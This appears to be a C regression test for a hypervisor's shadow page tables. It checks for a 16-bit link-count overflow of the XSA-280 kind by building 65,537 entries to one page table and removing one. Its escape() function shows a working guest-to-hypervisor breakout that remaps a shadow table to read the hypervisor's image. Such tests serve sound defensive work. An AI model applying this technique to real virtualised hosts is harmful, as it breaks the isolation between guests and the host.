// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Links to one page table that are too many to count (XSA-280 and kin).
 * The count of links to a shadow was 16 bits wide. Tried: 65 537 level-2 entries that name one page
 * table, all of them used, so that the count says 1; then one is taken away, and the shadow, though
 * 65 536 links lead to it, becomes that of a level-2 table. Through the old links its entry, which
 * names another shadow, maps that shadow itself, to be written by the guest: a word of it makes any
 * machine page the guest's. Must happen: memory reads as the tables say. Runs with 128 MiB.
 */
#include "guest.h"

#define P	    0x67 /* present, writable, user, accessed, dirty */
#define LINKS	    65537
#define MARK	    0x4d41524bull
#define VA(i, k, n) (0x8000000000 | (uint64_t)(i) << 30 | (uint64_t)(k) << 21 | (uint64_t)(n) << 12)
#define ENTRY	    0x100000ull /* where the hypervisor's image lies in the machine */

/* Pages from the end of what is in use: 0 the level-3 table; 1 a table that all level-2 tables name
 * in all entries; 2 a page with a mark; 3 and 4 two more tables; then those of level 2. */
enum { LEVEL3, TABLE, MARKED, OTHER2, OTHER1, LEVEL2 };
static uint64_t first;

static uint64_t *page(uint64_t i)
{
	return (uint64_t *)(first + i * 4096);
}

static uint64_t link_to(uint64_t i)
{
	return first + i * 4096 + P;
}

static uint64_t read_at(uint64_t va)
{
	return *(volatile uint64_t *)va;
}

static void make_tables(void)
{
	for (unsigned i = 0; i < 512; i++) {
		page(LEVEL3)[i] = page(OTHER1)[i] = 0;
		page(TABLE)[i] = link_to(MARKED);
		page(OTHER2)[i] = link_to(OTHER1);
		page(MARKED)[i] = MARK;
	}
	for (unsigned i = 0; i * 512 < LINKS; i++) {
		page(LEVEL3)[i] = link_to(LEVEL2 + i);
		for (unsigned k = 0; k < 512; k++)
			page(LEVEL2 + i)[k] = link_to(TABLE);
	}
	page(LEVEL3)[400] = link_to(OTHER2);
	page(OTHER1)[0] = link_to(MARKED);
	veneer_root()[1] = link_to(LEVEL3);
}

/* The old links' entry k maps a shadow table, if anything else than the mark is there. Its entry 1
 * is for VA(400, k, 1), which the guest's own tables do not map. */
static void escape(unsigned k)
{
	volatile uint64_t *shadow = (volatile uint64_t *)VA(0, 0, k);

	say("entry 0 of a shadow table is %p\n", (void *)shadow[0]);
	shadow[1] = ENTRY | P;
	veneer_hypercall(VENEER_HC_MMU_FLUSH, 0, 0, 0); /* of nothing */
	say("and the hypervisor's first words are %p %p\n", (void *)read_at(VA(400, k, 1)),
	    (void *)read_at(VA(400, k, 1) + 8));
	expect(false, "the guest reads the hypervisor");
}

int guest_main(const struct veneer_start_info *info)
{
	first = (info->reserved_end + 0x200000) & ~0xfffull;
	if (info->memory < 128 << 20) {
		say("wants 128 MiB\n");
		return 1;
	}
	make_tables();
	for (unsigned n = 0; n < LINKS; n++)
		expect(read_at(VA(n / 512, n % 512, 5)) == MARK, "each link leads to the page");
	page(LEVEL2 + (LINKS - 1) / 512)[(LINKS - 1) % 512] = 0;
	veneer_hypercall(VENEER_HC_MMU_FLUSH, VA((LINKS - 1) / 512, (LINKS - 1) % 512, 5), 4096, 0);
	for (unsigned k = 0; k < 8; k++)
		expect(read_at(VA(400, k, 0)) == MARK, "tables made anew are read");
	for (unsigned k = 0; k < 8; k++)
		if (read_at(VA(0, 0, k)) != MARK) {
			escape(k);
			return 1;
		}
	for (unsigned n = 0; n < LINKS - 1; n++)
		expect(read_at(VA(n / 512, n % 512, n % 512)) == MARK,
		       "the other links lead there");
	say("%d links led where they must\n", LINKS - 1);
	return 0;
}
